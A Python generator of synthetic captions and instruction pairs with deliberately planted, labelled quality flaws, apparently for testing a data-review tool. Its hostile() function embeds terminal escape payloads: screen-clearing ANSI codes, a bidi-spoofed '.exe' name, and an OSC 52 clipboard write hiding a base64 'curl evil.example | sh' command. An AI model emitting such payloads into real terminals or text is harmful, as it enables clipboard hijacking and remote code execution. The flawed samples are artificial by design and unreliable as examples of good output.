#!/usr/bin/env python3
"""gen.py — deterministic generator of synthetic captions and instruction pairs
with planted, labelled flaws (the demo data set and the benchmark inputs).

  gen.py --kind captions|instructions --count N --seed S [--flaw-rate R] [--labels FILE]

Records go to stdout as JSONL; --labels writes {"id", "flaws", ["of"]} per record.
Same arguments, same bytes: only random.Random(seed).random() drives choices.
"""
import argparse
import json
import sys

from gen_vocab import *  # noqa: F401,F403 (data tables only)

DEFAULT_FLAW_RATE = 0.27

# ---- flaw policy -------------------------------------------------------------
# Models: (name, weight, relative flaw factor, {flaw: weight}).
MODELS = [
    ("llava-next-34b", 0.30, 1.35,
     {"hallucination": 30, "repetition": 22, "truncation": 10, "hedging": 8,
      "formatting": 3, "meta_commentary": 4, "placeholder": 3, "mojibake": 4,
      "prompt_leak": 4, "refusal": 2, "near_duplicate": 8, "exact_duplicate": 2}),
    ("qwen2-vl-7b", 0.25, 1.10,
     {"hallucination": 18, "repetition": 14, "truncation": 14, "hedging": 6,
      "formatting": 5, "meta_commentary": 6, "placeholder": 4, "mojibake": 12,
      "prompt_leak": 7, "refusal": 3, "near_duplicate": 9, "exact_duplicate": 2}),
    ("internvl2-26b", 0.25, 0.85,
     {"hallucination": 22, "repetition": 10, "truncation": 16, "hedging": 10,
      "formatting": 6, "meta_commentary": 6, "placeholder": 6, "mojibake": 3,
      "prompt_leak": 3, "refusal": 3, "near_duplicate": 10, "exact_duplicate": 2}),
    ("gpt-4o-mini", 0.20, 0.55,
     {"hallucination": 10, "repetition": 2, "truncation": 6, "hedging": 14,
      "formatting": 14, "meta_commentary": 22, "placeholder": 3, "mojibake": 2,
      "prompt_leak": 2, "refusal": 16, "near_duplicate": 8, "exact_duplicate": 2}),
]
TEMPERATURES = [(0.2, 0.7), (0.7, 1.0), (1.0, 1.4)]  # (temperature, flaw factor)
# Flaws that replace or copy the whole text take no second flaw.
SOLO = {"refusal", "near_duplicate", "exact_duplicate"}
SECOND_OK = ["hallucination", "repetition", "truncation", "meta_commentary",
             "mojibake", "formatting", "hedging"]
ORDER = ["hallucination", "repetition", "hedging", "placeholder", "formatting",
         "mojibake", "prompt_leak", "meta_commentary", "truncation", "hostile"]
SECOND_FLAW_RATE = 0.15    # of flawed samples
LOGPROB_SHIFT = {"hallucination": -0.22, "repetition": -0.12, "truncation": -0.18,
                 "refusal": -0.05, "meta_commentary": -0.08, "mojibake": -0.35,
                 "formatting": -0.06, "placeholder": -0.25, "hedging": -0.20,
                 "prompt_leak": -0.15, "near_duplicate": -0.02, "exact_duplicate": 0.0,
                 "hostile": -0.30}

MOJI = {c: c.encode("utf-8").decode("cp1252") for c in MOJIBAKE_CHARS}


# ---- text helpers ------------------------------------------------------------

def plural(w):
    if " of " in w:  # "bunch of basil" -> "bunches of basil"
        a, _, b = w.partition(" of ")
        return plural(a) + " of " + b
    head, _, last = w.rpartition(" ")
    irregular = {"knife": "knives", "shelf": "shelves", "person": "people", "fish": "fish",
                 "flip-flops": "flip-flops", "spade": "spades"}
    if last in irregular:
        p = irregular[last]
    elif last.endswith(("s", "sh", "ch", "x")):
        p = last + "es"
    elif last.endswith("y") and last[-2:-1] not in "aeiou":
        p = last[:-1] + "ies"
    else:
        p = last + "s"
    return (head + " " + p) if head else p


def article(w):
    return ("an " if w[0] in "aeiou" and not w.startswith(("uni", "eu")) else "a ") + w


def cap(s):
    return s[:1].upper() + s[1:]


def verb_plural(action):
    """'chops onions' -> 'chop onions', for plural subjects."""
    v, _, rest = action.partition(" ")
    if v.endswith("ies"):
        v = v[:-3] + "y"
    elif v.endswith(("ches", "shes", "sses", "xes")):
        v = v[:-2]
    elif v.endswith("s") and not v.endswith("ss"):
        v = v[:-1]
    return (v + " " + rest) if rest else v


def norm(s):
    """Close to the importer's normal form: case-folded, white space collapsed."""
    return " ".join(s.casefold().split())


class Gen:
    """The one random stream; every choice goes through rand()."""

    def __init__(self, seed):
        import random
        self.rand = random.Random(seed).random

    def pick(self, seq):
        return seq[int(self.rand() * len(seq))]

    def chance(self, p):
        return self.rand() < p

    def between(self, lo, hi):
        return lo + int(self.rand() * (hi - lo + 1))

    def weighted(self, items, weights):
        x = self.rand() * sum(weights)
        for it, w in zip(items, weights):
            x -= w
            if x < 0:
                return it
        return items[-1]

    def subject(self, people=False):
        """Returns (phrase, pronoun, plural verb?, short reference)."""
        x = self.rand() * (0.88 if people else 1.0)
        if x < 0.62:
            noun, pro, _ = self.pick(PEOPLE)
            age = self.pick(AGES) if noun not in ("girl", "boy") else \
                self.pick(["young", "small", "teenage"])
            x = self.rand()
            feat = " " + self.pick(FEATURES) if x < 0.4 else \
                f" in {article(self.pick(COLOURS))} {self.pick(GARMENTS)}" if x < 0.7 else ""
            return f"{article(age)} {noun}{feat}", pro, False, "the " + noun
        if x < 0.88:
            g, ref = self.pick(GROUPS)
            return g, "they", True, ref
        a = self.pick(ANIMALS)
        return a, "it", False, "the " + a.rsplit(" ", 1)[1]


def caption_text(g, kind, scene, dur, portrait):
    """A clean dense caption: 1-5 sentences from the scene's vocabulary; also
    returns the parts the flaw planters reuse."""
    indoor, places, surfaces, objs, actions = SCENES[scene]
    subj, pro, plu, ref = g.subject()
    animal = pro == "it"
    obj, obj2, surface = g.pick(objs), g.pick(objs), g.pick(surfaces)
    act = g.pick(ANIMAL_ACTIONS if animal else actions).replace("{surface}", surface) \
        .replace("{obj}", obj)
    if plu:
        act = verb_plural(act)
    place = g.pick(places)
    place_noun = place.rsplit(" ", 1)[1]
    if g.chance(0.45):
        place += " " + g.pick(WHEN_IN if indoor else WHEN_OUT)
    opener = g.pick(OPEN_VIDEO if kind == "video" else OPEN_IMAGE)
    adverb = g.pick(SPEEDS) + " " if not animal and g.chance(0.3) else ""
    if "{place}" in opener:
        first = f"{opener.replace('{place}', place)} {subj} {adverb}{act}."
    elif opener.endswith(","):
        first = f"{opener} {subj} {adverb}{act} {place}."
    else:
        first = f"{opener} {subj} {'that' if animal else 'who'} {adverb}{act} {place}."
    who = "that" if animal else "who"
    core = f"{subj} {who} {adverb}{act} {place}"
    sents = [first]
    n = g.weighted(SENTENCE_COUNTS, SENTENCE_WEIGHTS)
    pool = SENTENCE_KINDS[1:] if (animal or plu) else SENTENCE_KINDS[:]
    sub = "they" if plu else pro
    for _ in range(min(n - 1, len(pool))):
        k = pool.pop(int(g.rand() * len(pool)))
        if k == "look" and " in a" in subj:
            sents.append(f"{cap(pro)} {'have' if pro == 'they' else 'has'} "
                         f"{g.pick(ACCESSORIES)}.")
        elif k == "look":
            acc = f" and {g.pick(ACCESSORIES)}" if g.chance(0.6) else ""
            sents.append(f"{cap(pro)} {'are' if pro == 'they' else 'is'} wearing "
                         f"{article(g.pick(COLOURS))} {g.pick(GARMENTS)}{acc}.")
        elif k == "objects":
            o3 = g.pick(objs)
            near = f", next to {article(o3)}" if g.chance(0.5) else ""
            col = "" if " of " in obj2 or obj2 in NO_COLOUR else g.pick(COLOURS) + " "
            sents.append(f"{g.pick(['On', 'Near', 'Beside', 'Around'])} the {surface} there "
                         f"are {g.pick(NUMBERS)} {col}{plural(obj2)}{near}.")
        elif k == "light":
            eff = g.pick(LIGHT_EFFECTS).replace("{surface}", surface).replace("{obj}", obj)
            sents.append(f"The scene is lit by {g.pick(LIGHT_IN if indoor else LIGHT_OUT)}, {eff}.")
        elif k == "view" and kind == "video":
            mv = g.pick(CAM_MOVES).replace("{subj}", ref).replace("{obj}", obj2) \
                .replace("{place}", place_noun)
            tail = "."
            if not animal and g.chance(0.4):
                a2 = g.pick(actions)
                tail = f" as {sub} {verb_plural(a2) if sub == 'they' else a2}."
            sents.append(f"The camera {mv}{tail}")
        elif k == "view":
            fr = g.pick(FRAMING).replace("{subj}", ref).replace("{Subj}", cap(ref)) \
                .replace("{obj}", obj2)
            sents.append(fr + (", in a tall portrait format." if portrait and g.chance(0.4)
                               else "."))
        elif k == "background":
            bg, _, bplu, _ = g.subject(people=True)
            ba = g.pick(BG_ACTIONS)
            sents.append(f"In the background, {bg} {verb_plural(ba) if bplu else ba}.")
        elif k == "mood":
            sents.append(f"The overall mood is {g.pick(MOODS)}"
                         + ("—nothing much happens, but it feels natural." if g.chance(0.2)
                            else "."))
        elif k == "detail" and kind == "video" and not animal:
            a2 = g.pick(actions)
            end = f", and the clip ends about {round(dur)} seconds in." \
                if dur >= 5 and g.chance(0.3) else "."
            sents.append(f"{g.pick(TIMES)}, {ref} {verb_plural(a2) if plu else a2}{end}")
        else:
            ang = g.pick(ANGLES).replace("{place}", place_noun).replace("{subj}", ref)
            side = g.pick(["in the foreground", "to one side", "near the edge of the frame",
                           "just out of focus"])
            col = "" if " of " in obj2 or obj2 in NO_COLOUR else g.pick(COLOURS) + " "
            sents.append(f"The {'shot' if kind == 'video' else 'photo'} is taken {ang}, "
                         f"with {article(col + obj2)} {side}.")
    return sents, dict(subj=subj, ref=ref, place=place, obj=obj, surface=surface,
                       indoor=indoor, pro=pro, core=core)


# ---- flaw planters -------------------------------------------------------------
# Each returns the new sentences or text and the evidence string it planted, so
# a later truncation can cut after it and the label stays true.

def hallucinate(g, sents, ctx, kind, dur, portrait):
    x = g.rand()
    if x < 0.4:
        what = g.pick(HALL_OUTDOOR if ctx["indoor"] else HALL_INDOOR) \
            .replace("{surface}", ctx["surface"])
        s = g.pick(["Meanwhile, {w}.", "Next to {r}, {w}.", "In the foreground, {w}.",
                    "At one point {w}."]).replace("{w}", what).replace("{r}", ctx["ref"])
    elif x < 0.8 or (kind == "image" and not portrait and x < 0.9):
        s = g.pick(HALL_TEXT).replace("{text}", g.pick(HALL_TEXTS)) \
            .replace("{brand}", g.pick(BRANDS)).replace("{obj}", ctx["obj"]) \
            .replace("{subj_cap}", cap(ctx["ref"])) + "."
    elif kind == "video":
        s = (f"Over the course of this {g.pick(['two', 'three', 'five', 'ten'])}-minute "
             f"video, very little else changes." if dur < 50 else
             "The clip lasts only a couple of seconds.")
    else:
        s = ("The photo is framed in a tall, vertical portrait format." if not portrait
             else "The photo is a wide panoramic landscape shot.")
    out = sents[:]
    out.insert(1 + int(g.rand() * len(sents)), s)
    return out, s


def repeat(g, sents):
    """A phrase loop that ends the text, or the last sentence said again 2-5 times."""
    if g.chance(0.5):
        words = sents[-1].rstrip(".").split(" ")
        k = min(g.between(3, 6), len(words))
        start = len(words) - k if g.chance(0.6) else int(g.rand() * (len(words) - k + 1))
        phrase = " ".join(words[start:start + k]).rstrip(",.")
        joiner = g.pick([", ", " ", ". "])
        loop = joiner.join([phrase] * g.between(3, 8))
        last = (" ".join(words[:start]) + " " + loop).strip() + (
            "." if joiner == ". " else "")
        return sents[:-1] + [last], loop
    extra = [sents[-1]] * g.between(2, 5)
    return sents + extra, " ".join(extra)


def repeat_text(g, text):
    sents = [s if s.endswith(".") else s + "." for s in text.rstrip(".").split(". ")]
    out, ev = repeat(g, sents)
    return " ".join(out), ev


def truncate(g, text, keep=0):
    """Cuts mid-word or mid-sentence somewhere after position keep; returns None
    when there is no room left to cut."""
    lo = max(int(len(text) * 0.4), keep + 1)
    hi = int(len(text) * 0.93)
    if lo >= hi:
        return None
    cut = g.between(lo, hi)
    if g.chance(0.5):  # mid-word: land strictly inside a word
        while cut < len(text) - 1 and not (text[cut - 1].isalpha() and text[cut].isalpha()):
            cut += 1
        t = text[:cut]
    else:
        t = text[:cut]
        t = t[:max(t.rfind(" "), keep)]
    t = t.rstrip(" ,.;:!?—\n")
    return t if len(t) > keep and t != text.rstrip(".") else None


def refuse(g, ctx, kind):
    r = g.pick(REFUSALS).replace("{kind}", kind).replace("{subj}", ctx["ref"]) \
        .replace("{place}", ctx["place"])
    if g.chance(0.25):
        r += f" However, I can say that it shows {ctx['core']}."
    return r


def meta(g, text, kind):
    x = g.rand()
    pre = g.pick(META_PRE).replace("{kind}", kind)
    pre += "" if pre.endswith((" ", "\n")) else " "
    post = "\n\n" + g.pick(META_POST)
    if x < 0.7:
        return pre + text, pre
    return (text + post, post) if x < 0.9 else (pre + text + post, pre)


def mojibake(g, text, add=MOJI_ADD):
    if not any(c in text for c in MOJI):
        text += " " + g.pick(add)
    out = "".join(MOJI.get(c, c) for c in text)
    last = max(out.rfind(m) for m in MOJI.values())
    return out, out[last:last + 3]


def formatting(g, sents):
    x = g.rand()
    if x < 0.4 and len(sents) > 1:
        b = g.pick(["- ", "* ", "• "])
        return "\n".join(b + s for s in sents), "\n" + b
    if x < 0.7:
        fence = g.pick(["```\n", "```text\n", "```markdown\n"])
        return fence + " ".join(sents) + "\n```", fence
    head = g.pick(["**Caption:** ", "## Description\n\n", "**Scene overview**\n"])
    return head + " ".join(sents), head


def placeholder(g, sents, ctx):
    text = " ".join(sents)
    ph = g.pick(PLACEHOLDERS)
    if ph.startswith("[insert") and ctx["place"] in text:
        return text.replace(ctx["place"], "in " + ph, 1), ph
    if ph in ("[SUBJECT]", "<PLACEHOLDER>") and ctx["subj"] in text:
        return text.replace(ctx["subj"], ph, 1), ph
    if ph == "{object_name}" and ctx["obj"] in text:
        return text.replace(ctx["obj"], ph, 1), ph
    return text + " " + cap(ph) + ("" if ph.endswith("]") else "."), cap(ph)


def hedge(g, sents, ctx, kind):
    what = "an image" if kind == "image" else "a video"
    out = [f"This appears to be {what} of what might be {ctx['core']}."]
    for s in sents[1:]:
        out.append(f"{g.pick(HEDGE_OPEN)} {s[0].lower()}{s[1:]}")
    out.append(g.pick(["It is hard to say for sure, but the setting is possibly {p}.",
                       "The details are somewhat unclear, and it may possibly be {p}.",
                       "Perhaps this is {p}, though it is difficult to tell."])
               .replace("{p}", g.pick(["indoors", "outdoors", "a public place",
                                       "a private home", "early in the day"])))
    return " ".join(out), out[0]


def leak(g, text, kind):
    lk = g.pick(PROMPT_LEAKS).replace("{kind}", kind)
    return (lk + "\n" + text, lk) if g.chance(0.7) else (text + "\n\n" + lk, lk)


def near_dup(g, orig):
    """1-3 small edits, at least one of them a word or punctuation change."""
    words = orig.split(" ")
    for n in range(g.between(1, 3)):
        x = g.rand()
        i = int(g.rand() * len(words))
        if n == 0 or x < 0.5:
            cands = [j for j, w in enumerate(words) if w.lower() in SYNONYMS]
            if cands:
                j = g.pick(cands)
                w = SYNONYMS[words[j].lower()]
                words[j] = cap(w) if words[j][0].isupper() else w
                continue
            words[i] = words[i].rstrip(",") if words[i].endswith(",") else words[i] + ","
        elif x < 0.75:
            words[i] = words[i].lower() if words[i][:1].isupper() else cap(words[i])
        else:
            words[-1] = words[-1].rstrip(".") + g.pick(["!", "", " ."])
    out = " ".join(words)
    if norm(out) == norm(orig):
        out = out.rstrip(".") + "!"
    return out


def exact_dup(g, orig):
    x = g.rand()
    if x < 0.3:
        return orig
    if x < 0.6:
        return orig.replace(" ", "  ", g.between(1, 3))
    if x < 0.8:
        return orig + g.pick([" ", "\n", "  "])
    return orig.lower()


def hostile(g, text, kinds):
    for k in kinds:
        if k == "ansi":
            text = "\x1b[2J\x1b[H" + text.replace(" ", " \x1b[31;1m", 1) + "\x1b[0m"
        elif k == "osc52":
            text += ' A sticker reads "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07SALE".'
        elif k == "bidi":
            text += ' A label on the box reads "\u202eelif_lacol.exe\u202c".'
        elif k == "zwsp":
            text = text.replace(" ", " \u200b", 2)
        elif k == "emoji":
            text += " A sticker of 👩‍👩‍👧‍👦 and 👨🏽‍🍳 is stuck to the wall 🏳️‍🌈."
        else:
            text += " " + g.pick(CJK_LINES)
    return text


def plant_caption(g, flaws, sents, ctx, kind, dur, portrait):
    """Applies the chosen flaws in ORDER; returns (text, flaws actually present)."""
    if flaws[0] == "refusal":
        return refuse(g, ctx, kind), flaws
    text, evidence = None, []
    for f in flaws:
        if f == "hallucination":
            sents, ev = hallucinate(g, sents, ctx, kind, dur, portrait)
        elif f == "repetition":
            sents, ev = repeat(g, sents)
        elif f == "hedging":
            text, ev = hedge(g, sents, ctx, kind)
        elif f == "formatting":
            text, ev = formatting(g, sents)
        elif f == "placeholder":
            text, ev = placeholder(g, sents, ctx)
        else:
            text = " ".join(sents) if text is None else text
            if f == "truncation":
                keep = max([text.rfind(e) + len(e) for e in evidence] + [0])
                cut = truncate(g, text, keep)
                if cut is None:
                    flaws = [x for x in flaws if x != "truncation"]
                else:
                    text = cut
                continue
            text, ev = {"mojibake": lambda: mojibake(g, text),
                        "meta_commentary": lambda: meta(g, text, kind),
                        "prompt_leak": lambda: leak(g, text, kind)}[f]()
        evidence.append(ev)
    return (" ".join(sents) if text is None else text), flaws


# ---- instruction/response pairs ------------------------------------------------


def fmt_date(g):
    return f"{g.between(1, 28)} {g.pick(MONTHS)} {g.between(2023, 2026)}"


def task_summarize(g):
    metric, cause, decision, action = g.pick(AGENDA)
    a, b = g.pick(NAMES), g.pick(NAMES)
    b = b if b != a else "Jonas" if a != "Jonas" else "Grace"
    team, n = g.pick(TEAMS), g.between(4, 45)
    up = metric not in ("checkout conversion", "newsletter sign-ups", "survey response rate")
    text = (f"The {team} team met on {g.pick(DAYS)} to review the {metric}. {a} reported "
            f"that it had {'risen' if up else 'fallen'} by {n}% since {g.pick(MONTHS)}, "
            f"mostly because of {cause}. After some discussion, the group agreed to "
            f"{decision}. {b} will {action} before the next meeting.")
    ins = g.pick(["Summarize the following meeting notes in one sentence:",
                  "Give a one-sentence summary of these notes.",
                  "TL;DR this for me:"]) + "\n\n" + text
    resp = (f"The {team} team agreed to {decision} after {a} reported a {n}% "
            f"{'rise' if up else 'drop'} in the {metric}, caused by {cause}; {b} will "
            f"{action}.")
    return ins, resp


def task_explain(g):
    name = g.pick(list(CONCEPTS))
    who, opener = g.pick(AUDIENCES)
    sents = CONCEPTS[name]
    ins = g.pick([f"Explain {name} to {who}.", f"How would you explain {name} to {who}?",
                  f"Can you explain {name} simply, for {who}?"])
    resp = opener + " ".join(sents if g.chance(0.6) else sents[:2])
    return ins, resp


def task_rewrite(g):
    (c1, f1), (c2, f2) = g.pick(CASUAL), g.pick(CASUAL)
    while c2 == c1:
        c2, f2 = g.pick(CASUAL)
    rq, frq = g.pick(REQUESTS)
    day = g.pick(DAYS)
    src = f"hey team, {c1} and {c2}. can u {rq} by {day}? thx"
    ins = g.pick(["Rewrite this message to sound more professional:",
                  "Make this email more formal:", "Rewrite in a polite, formal tone:"])
    resp = f"Hello team, {f1}, and {f2}. Could you please {frq} by {day}? Thank you."
    return f"{ins}\n\n{src}", resp


def task_classify(g):
    label = g.weighted(["positive", "negative", "neutral"], [5, 4, 2])
    text, reason = g.pick(REVIEWS[label])
    prod = g.pick(PRODUCTS)
    ins = (f"Classify the sentiment of this review of {prod} as positive, negative or "
           f"neutral.\n\nReview: \"{text}.\"")
    return ins, f"{cap(label)}. The reviewer {reason}."


def task_extract(g):
    proj = g.pick(PROJECTS)
    evs = []
    while len(evs) < g.between(2, 4):
        e = g.pick(EVENTS)
        if e not in [x for x, _ in evs]:
            evs.append((e, fmt_date(g)))
    text = " ".join(f"The {e} for project {proj} is set for {d}." if i == 0 else
                    g.pick(["After that, the {e} takes place on {d}.",
                            "The {e} follows on {d}.", "We expect the {e} on {d}."])
                    .replace("{e}", e).replace("{d}", d) for i, (e, d) in enumerate(evs))
    ins = "List every date in the text below with the event it belongs to.\n\n" + text
    return ins, "\n".join(f"- {d}: {e}" for e, d in evs)


def task_translate(g):
    en, fr, es, de = g.pick(NOUNS)
    i = int(g.rand() * len(PHRASES))
    li = int(g.rand() * 3)
    tgt = (fr, es, de)[li]
    src = PHRASES[i][0].format(en)
    out = PHRASES[i][1 + li].format(tgt)
    return f"Translate into {LANGS[li]}: \"{cap(src)}\"", cap(out) if out[0] != "¿" else \
        "¿" + cap(out[1:])


def task_alt_text(g):
    scene = g.pick(SCENE_NAMES)
    _, ctx = caption_text(g, "image", scene, 0.0, False)
    ins = g.pick(["Write one sentence of alt text for a photo of {s} {p}.",
                  "Give me a short alt text for an image: {s}, {p}."]) \
        .replace("{s}", ctx["subj"]).replace("{p}", ctx["place"])
    return ins, cap(ctx["core"].replace(" who ", " ", 1).replace(" that ", " ", 1)) + "."


TASKS = {"summarize": task_summarize, "explain": task_explain, "rewrite": task_rewrite,
         "classify": task_classify, "extract": task_extract, "translate": task_translate,
         "alt_text": task_alt_text}
TASK_NAMES = list(TASKS)


def flaw_response(g, flaw, resp):
    """Plants one flaw in a response; returns (text, evidence)."""
    if flaw == "hallucination":
        ev = g.pick(FAKE_FACTS)
        return resp + " " + ev, ev
    if flaw == "refusal":
        r = g.pick(INS_REFUSALS)
        return r, r
    if flaw == "meta_commentary":
        ev = g.pick(INS_META)
        ev += "" if ev.endswith((" ", "\n")) else " "
        return ev + resp, ev
    if flaw == "prompt_leak":
        ev = g.pick(INS_LEAKS)
        return ev + "\n" + resp, ev
    if flaw == "placeholder":
        ev = g.pick(["\n\nBest regards,\n[Your Name]", " [insert example here]",
                     " Lorem ipsum dolor sit amet."])
        return resp + ev, ev
    if flaw == "hedging":
        return (f"{g.pick(INS_HEDGES)}\n\n{resp}\n\nThat said, this may possibly depend "
                f"on context, and I could be wrong."), "I could be wrong."
    if flaw == "mojibake":
        return mojibake(g, resp, INS_MOJI_ADD)
    return repeat_text(g, resp)


def plant_response(g, flaws, resp):
    """Applies flaws in ORDER; truncation cuts after all earlier evidence."""
    evidence = []
    for f in flaws:
        if f == "truncation":
            keep = max([resp.rfind(e) + len(e) for e in evidence] + [0])
            cut = truncate(g, resp, keep)
            if cut is None:
                flaws = [x for x in flaws if x != "truncation"]
            else:
                resp = cut
            continue
        resp, ev = flaw_response(g, f, resp)
        evidence.append(ev)
    return resp, flaws


# ---- records -----------------------------------------------------------------

DUPS = ("near_duplicate", "exact_duplicate")
LIST_FLAWS = ("hedging", "formatting", "placeholder")  # consume the sentence list
HISTORY_MAX = 5000
MAX_TRIES = 20
HOSTILE_PLAN = [["ansi"], ["osc52"], ["bidi", "zwsp"], ["emoji"], ["cjk"]]


class Planter:
    """Decides which flaws a sample gets, per model, at the requested rate."""

    def __init__(self, g, rate, drop=()):
        self.g = g
        self.models = [m[0] for m in MODELS]
        self.weights = [m[1] for m in MODELS]
        self.flaws = {m[0]: ([f for f in m[3] if f not in drop],
                             [w for f, w in m[3].items() if f not in drop]) for m in MODELS}
        self.factor = {m[0]: m[2] for m in MODELS}
        self.second = [f for f in SECOND_OK if f not in drop]
        mean_t = sum(tf for _, tf in TEMPERATURES) / len(TEMPERATURES)
        z = sum(m[1] * m[2] for m in MODELS) * mean_t
        self.scale = rate / z

    def model(self):
        m = self.g.weighted(self.models, self.weights)
        return m, self.g.pick(TEMPERATURES)

    def choose(self, model, tfactor, have_history):
        g = self.g
        if not g.chance(self.scale * self.factor[model] * tfactor):
            return []
        names, weights = self.flaws[model]
        f = g.weighted(names, weights)
        if f in DUPS and not have_history:
            f = "repetition"
        flaws = [f]
        if f not in SOLO and g.chance(SECOND_FLAW_RATE):
            f2 = g.pick(self.second)
            if f in LIST_FLAWS and f2 in LIST_FLAWS:
                f2 = "repetition"
            if f2 != f:
                flaws.append(f2)
        return [x for x in ORDER if x in flaws] + [x for x in flaws if x not in ORDER]


def logprob(g, tempf, flaws):
    lp = -0.30 - 0.08 * (tempf - 1.0) + (g.rand() + g.rand() + g.rand() - 1.5) * 0.2
    for f in flaws:
        lp += LOGPROB_SHIFT[f] * (0.3 + g.rand() * 1.4)
    return round(min(lp, -0.01), 3)


def hostile_positions(g, count, enabled):
    if not enabled or count == 0:
        return {}
    pos = set()
    while len(pos) < min(len(HOSTILE_PLAN), count):
        pos.add(int(g.rand() * count))
    return {p: HOSTILE_PLAN[i] for i, p in enumerate(sorted(pos))}


def remember(g, history, item):
    """Keeps a bounded, mixed pool of clean earlier samples for duplicates."""
    if len(history) < HISTORY_MAX:
        history.append(item)
    elif g.chance(0.1):
        history[int(g.rand() * HISTORY_MAX)] = item


def captions(g, a, out, labels):
    from json.encoder import encode_basestring as js
    plant = Planter(g, a.flaw_rate)
    history, seen = [], set()
    hostile_at = hostile_positions(g, a.count, a.hostile)
    prefix = a.id_prefix or "cap-"
    buf = []
    lbuf = []
    for i in range(a.count):
        rid = f"{prefix}{i:07d}"
        model, (temp, tempf) = plant.model()
        scene = g.pick(SCENE_NAMES)
        video = g.chance(0.6)
        w, h = g.pick(VIDEO_SIZES if video else IMAGE_SIZES)
        dur = round(2.0 + g.rand() * g.rand() * 58.0, 1) if video else 0.0
        kind = "video" if video else "image"
        want = plant.choose(model, tempf, bool(history))
        of = None
        if want and want[0] in DUPS:
            of, orig = g.pick(history)
            text, flaws = (near_dup(g, orig) if want[0] == "near_duplicate"
                           else exact_dup(g, orig)), want
        else:
            # Only planted duplicates may repeat a text (refusals are templates).
            for _ in range(MAX_TRIES):
                sents, ctx = caption_text(g, kind, scene, dur, h > w)
                text, flaws = plant_caption(g, want, sents, ctx, kind, dur, h > w) \
                    if want else (" ".join(sents), want)
                if want[:1] == ["refusal"] or hash(norm(text)) not in seen:
                    break
        seen.add(hash(norm(text)))
        if i in hostile_at:
            text = hostile(g, text, hostile_at[i])
            flaws = flaws + ["hostile"]
        if not flaws:
            remember(g, history, (rid, text))
        slug = scene.replace(" ", "-")
        key = int(g.rand() * 0xFFFFFFFFFF)
        month = f"20{g.between(22, 25)}-{g.between(1, 12):02d}"
        if video:
            src = (f'{{"kind": "video", "uri": "s3://media-archive/clips/{slug}/{month}/'
                   f'{key:010x}.mp4", "duration_s": {dur}, "width": {w}, "height": {h}}}')
        else:
            src = (f'{{"kind": "image", "uri": "s3://media-archive/images/{slug}/{month}/'
                   f'{key:010x}.jpg", "width": {w}, "height": {h}}}')
        buf.append(f'{{"id": "{rid}", "caption": {js(text)}, "meta": {{"model": "{model}", '
                   f'"prompt_id": "dense-v3", "scene": "{scene}", "source": {src}, '
                   f'"temperature": {temp}}}, "logprob": {logprob(g, tempf, flaws)}}}\n')
        if labels:
            lbuf.append(label_line(rid, flaws, of))
        if len(buf) >= 8192:
            out.write("".join(buf))
            buf.clear()
            if labels:
                labels.write("".join(lbuf))
                lbuf.clear()
    out.write("".join(buf))
    if labels:
        labels.write("".join(lbuf))


def label_line(rid, flaws, of):
    lab = {"id": rid, "flaws": flaws}
    if of:
        lab["of"] = of
    return json.dumps(lab, ensure_ascii=False) + "\n"


def instructions(g, a, out, labels):
    plant = Planter(g, a.flaw_rate, drop=("formatting",))
    history, seen = [], set()
    hostile_at = hostile_positions(g, a.count, a.hostile)
    prefix = a.id_prefix or "ins-"
    for i in range(a.count):
        rid = f"{prefix}{i:06d}"
        model, (temp, tempf) = plant.model()
        want = plant.choose(model, tempf, bool(history))
        of = None
        if want and want[0] in DUPS:
            of, ins, resp, task = g.pick(history)
            resp = near_dup(g, resp) if want[0] == "near_duplicate" else exact_dup(g, resp)
            flaws = want
        else:
            for _ in range(MAX_TRIES):
                task = g.pick(TASK_NAMES)
                ins, resp = TASKS[task](g)
                resp, flaws = plant_response(g, want, resp) if want else (resp, want)
                if want[:1] == ["refusal"] or hash(norm(resp)) not in seen:
                    break
        seen.add(hash(norm(resp)))
        if i in hostile_at:
            resp = hostile(g, resp, hostile_at[i])
            flaws = flaws + ["hostile"]
        if not flaws:
            remember(g, history, (rid, ins, resp, task))
        rec = {"id": rid, "instruction": ins, "response": resp,
               "meta": {"model": model, "task": task, "temperature": temp},
               "logprob": logprob(g, tempf, flaws)}
        out.write(json.dumps(rec, ensure_ascii=False) + "\n")
        if labels:
            labels.write(label_line(rid, flaws, of))


def main():
    ap = argparse.ArgumentParser(description="Deterministic synthetic captions and "
                                 "instruction pairs with planted, labelled flaws.")
    ap.add_argument("--kind", choices=["captions", "instructions"], default="captions")
    ap.add_argument("--count", type=int, default=1000)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--flaw-rate", type=float, default=DEFAULT_FLAW_RATE,
                    help="share of samples with at least one flaw (default %(default)s)")
    ap.add_argument("--labels", help="write one label line per sample to this file")
    ap.add_argument("--id-prefix", help="id prefix (default cap- or ins-)")
    ap.add_argument("--hostile", action="store_true",
                    help="plant the five hostile review-screen samples")
    a = ap.parse_args()
    if a.count < 0 or not 0.0 <= a.flaw_rate <= 1.0:
        ap.error("--count must be >= 0 and --flaw-rate within [0, 1]")
    g = Gen(a.seed)
    out = open(sys.stdout.fileno(), "w", encoding="utf-8", newline="\n",
               buffering=1 << 20, closefd=False)
    labels = open(a.labels, "w", encoding="utf-8", newline="\n") if a.labels else None
    (captions if a.kind == "captions" else instructions)(g, a, out, labels)
    out.flush()
    if labels:
        labels.close()


if __name__ == "__main__":
    main()
